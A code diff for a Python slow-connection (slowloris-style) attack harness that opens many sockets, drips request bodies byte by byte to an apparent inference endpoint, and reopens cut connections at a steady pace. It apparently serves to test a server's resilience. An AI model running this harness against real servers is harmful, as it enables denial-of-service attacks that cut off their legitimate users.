@@ -34,11 +34,11 @@ SLOW_HEAD = (b"GET /health HTTP/1.1\r\nHost: victim\r\n"
              + b"".join(b"X-Pad-%d: %s\r\n" % (i, b"z" * 20) for i in range(40)) + b"\r\n")
 
 
-def slow_body_request(path: str = "/v1/completions", length: int = 4096) -> bytes:
-    """A complete head announcing ``length`` body bytes, then the body to drip."""
+def slow_body_request(path: str = "/v1/completions", length: int = 4096) -> tuple[bytes, bytes]:
+    """A complete head announcing ``length`` body bytes, and the body to drip after it."""
     head = (f"POST {path} HTTP/1.1\r\nHost: victim\r\nContent-Type: application/json\r\n"
             f"Content-Length: {length}\r\n\r\n").encode()
-    return head + b'{"prompt": "' + b"x" * (length - 13) + b'"}'
+    return head, b'{"prompt": "' + b"x" * (length - 14) + b'"}'
 
 
 @dataclass
@@ -68,6 +68,7 @@ class _Attack:
         self._selector = selectors.DefaultSelector()
         self._thread = threading.Thread(target=self._run, daemon=True, name=name)
         self._born: dict[socket.socket, float] = {}
+        self._owed = 0
 
     def start(self) -> _Attack:
         for _ in range(self.n):
@@ -115,14 +116,21 @@ class _Attack:
         self.stats.cut += 1
         self.stats.lifetimes_s = [*self.stats.lifetimes_s[-999:], time.monotonic() - born]
         self._forget(sock)
-        if self.reopen and not self._stop.is_set():
-            self._open()
+        if self.reopen:
+            self._owed += 1  # reopened on the next tick: a steady attacker, not a busy loop
 
     def _run(self) -> None:
+        next_tick = time.monotonic()
         while not self._stop.is_set():
-            for key, _ in self._selector.select(timeout=self._tick_s()):
+            timeout = max(0.0, next_tick - time.monotonic())
+            for key, _ in self._selector.select(timeout=timeout):
                 self._readable(key.fileobj)  # type: ignore[arg-type]
-            self._tick()
+            if time.monotonic() >= next_tick:
+                next_tick = time.monotonic() + self._tick_s()
+                owed, self._owed = self._owed, 0
+                for _ in range(owed):
+                    self._open()
+                self._tick()
 
     def _readable(self, sock: socket.socket) -> None:
         try:
@@ -155,9 +163,11 @@ class Drippers(_Attack):
     """``n`` connections sending ``payload`` one byte per ``every_s`` each."""
 
     def __init__(self, address: tuple[str, int], n: int, payload: bytes,
-                 every_s: float = 1.0) -> None:
+                 every_s: float = 1.0, *, prefix: bytes = b"") -> None:
         super().__init__(address, n, "attack-drip")
         self.payload = payload
+        self.prefix = prefix
+        """Sent whole on connecting (a request head, before a dripped body)."""
         self.every_s = every_s
         self._progress: dict[socket.socket, int] = {}
         self.completed = 0
@@ -165,6 +175,11 @@ class Drippers(_Attack):
 
     def _opened(self, sock: socket.socket) -> None:
         self._progress[sock] = 0
+        if self.prefix:
+            try:
+                sock.sendall(self.prefix)
+            except OSError:
+                self._cut(sock)
 
     def _forget(self, sock: socket.socket) -> None:
         self._progress.pop(sock, None)
